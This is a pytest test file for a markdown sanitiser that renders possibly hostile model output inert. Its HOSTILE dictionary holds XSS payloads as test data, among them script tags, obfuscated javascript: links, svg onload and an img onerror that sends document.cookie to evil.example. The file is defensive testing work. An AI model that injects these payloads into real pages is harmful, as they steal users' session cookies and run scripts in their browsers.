"""Hostile model output stays inert: checked by rendering with a real CommonMark parser.

markdown-it-py (CommonMark, HTML enabled — stricter than Streamlit, which drops raw
HTML anyway) turns the neutralised text into HTML; the HTML must hold no element,
attribute or URL that runs a script or loads anything.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from tracr.review.safe_markdown import DEFAULT_MAX_CHARS, collapse_repeats, neutralise_markdown, safe_markdown, safe_raw

_RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")


def render(text: str) -> str:
    return _RENDERER.render(text)


def assert_inert(html: str) -> None:
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<img" not in lowered
    assert "<iframe" not in lowered
    assert "<svg" not in lowered
    assert "<style" not in lowered
    assert '<a href="javascript' not in lowered
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", lowered), "an element with an event handler"
    assert not re.search(r"<[a-z][^>]*\ssrc\s*=", lowered), "an element that loads a src"
    for href in re.findall(r'href="([^"]*)"', lowered):
        assert href.startswith(("http://", "https://", "mailto:")), href


HOSTILE = {
    "script": "Intro\n\n<script>alert(document.cookie)</script>\n\nOutro",
    "onerror": 'A table <img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)"> cell',
    "remote image": "Logo: ![company logo](https://tracker.example/pixel.png?page=3)",
    "remote image with title": '![a](http://evil.example/x.png "title")',
    "reference image": "![logo][1]\n\n[1]: https://tracker.example/p.png",
    "javascript link": "[click me](javascript:alert(1))",
    "obfuscated javascript link": "[click](JaVa\tScRiPt:alert(1)) and [x](&#106;avascript:alert(1))",
    "reference javascript link": "[click][evil]\n\n> [evil]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)> and <https://evil.example/>",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "svg": "<svg onload=alert(1)><circle r=5/></svg>",
    "style": "<style>body{background:url(https://evil.example/bg)}</style>",
    "escaped bracket trick": "\\\\<script>alert(1)</script>",
    "html in code span": "`<img src=x onerror=alert(1)>`",
    "escaped backtick": "\\`<img src=x onerror=alert(1)>`",
    "fence inside list item": "- item\n  ```\n<script>alert(1)</script>\n```",
    "html block in table": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_input_renders_inert(name: str) -> None:
    html = render(safe_markdown(HOSTILE[name]).text)
    assert_inert(html)


def test_the_hostile_inputs_are_live_without_neutralising() -> None:
    """Guards the test itself: the same inputs do run/load when rendered as they are."""
    live = [name for name, text in HOSTILE.items() if _is_live(render(text))]
    assert {"script", "onerror", "remote image", "reference image", "iframe", "svg", "fence inside list item"} <= set(live)


def _is_live(html: str) -> bool:
    try:
        assert_inert(html)
    except AssertionError:
        return True
    return False


def test_words_survive() -> None:
    """Neutralising keeps what the model wrote visible as text."""
    html = render(safe_markdown(HOSTILE["script"]).text)
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in html
    image = render(safe_markdown(HOSTILE["remote image"]).text)
    assert "image not loaded: company logo" in image and "tracker.example" in image
    link = render(safe_markdown(HOSTILE["javascript link"]).text)
    assert "click me" in link and "link removed" in link


def test_safe_links_and_markdown_structure_are_kept() -> None:
    text = "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nSee [the docs](https://example.org/docs) and **bold**."
    html = render(safe_markdown(text).text)
    assert "<h1>Title</h1>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<a href="https://example.org/docs">the docs</a>' in html
    assert "<strong>bold</strong>" in html


def test_column_zero_fences_stay_verbatim() -> None:
    text = "Before\n\n```html\n<table><tr><td>1</td></tr></table>\n```\n\nAfter <b>"
    out = neutralise_markdown(text)
    assert "```html\n<table><tr><td>1</td></tr></table>\n```" in out
    html = render(out)
    assert '<code class="language-html">&lt;table&gt;' in html
    assert "After &lt;b&gt;" in html


def test_unclosed_fence_is_closed_so_notes_after_it_are_not_code() -> None:
    text = "```\n" + "".join(f"x = {i}\n" for i in range(5000))
    result = safe_markdown(text, max_chars=200)
    assert result.truncated
    html = render(result.text)
    assert html.rstrip().endswith("</em></p>"), html[-200:]


def test_megabyte_looping_output_is_capped_and_collapsed() -> None:
    loop = "| 1 | total | 1,000.00 |\n" * 40_000  # ~1 MB, a table row repeated until max_tokens
    text = "# Invoice\n\n" + loop + "<script>alert(1)</script>"
    assert len(text) > 1_000_000
    capped = safe_markdown(text)
    assert capped.truncated
    assert capped.collapsed_lines == 40_000 - 3
    assert len(capped.text) < 2_000
    assert "repeats 39,997 more times" in capped.text
    assert_inert(render(capped.text))

    everything = safe_markdown(text, max_chars=None)
    assert not everything.truncated
    assert everything.text.count("| 1 | total | 1,000.00 |") == 40_000
    assert_inert(render(everything.text))


def test_long_output_without_loops_is_cut_at_a_line_end() -> None:
    text = "\n".join(f"line {i} of a very long page" for i in range(5000))
    result = safe_markdown(text)
    assert result.truncated and result.original_chars == len(text)
    body = result.text.split("\n\n*… cut at")[0]
    assert len(body) <= DEFAULT_MAX_CHARS
    assert body.endswith("of a very long page")
    assert f"of {len(text):,} characters" in result.text


def test_collapse_repeats_keeps_blank_lines_and_short_runs() -> None:
    text = "a\na\na\n\n\n\n\nb\nb"
    assert collapse_repeats(text) == (text, 0)


def test_safe_raw_caps_but_does_not_rewrite() -> None:
    text = "<script>x</script>" * 2000
    raw = safe_raw(text, max_chars=100)
    assert raw.truncated and raw.text == text[:100]
    assert safe_raw(text, max_chars=None).text == text


def test_none_and_empty() -> None:
    assert safe_markdown(None).text == ""
    assert safe_markdown("").truncated is False


def test_line_break_tags_in_tables_become_spaces() -> None:
    html = render(safe_markdown("| a | b |\n|---|---|\n| one<br>two | x<BR />y |").text)
    assert "<td>one two</td>" in html and "<td>x y</td>" in html


def test_headings_can_be_demoted_outside_code() -> None:
    out = safe_markdown("# Title\n\n## Part\n\n###### Small\n\n```\n# comment\n```", demote_headings=2).text
    html = render(out)
    assert "<h3>Title</h3>" in html and "<h4>Part</h4>" in html and "<h6>Small</h6>" in html
    assert "# comment" in html
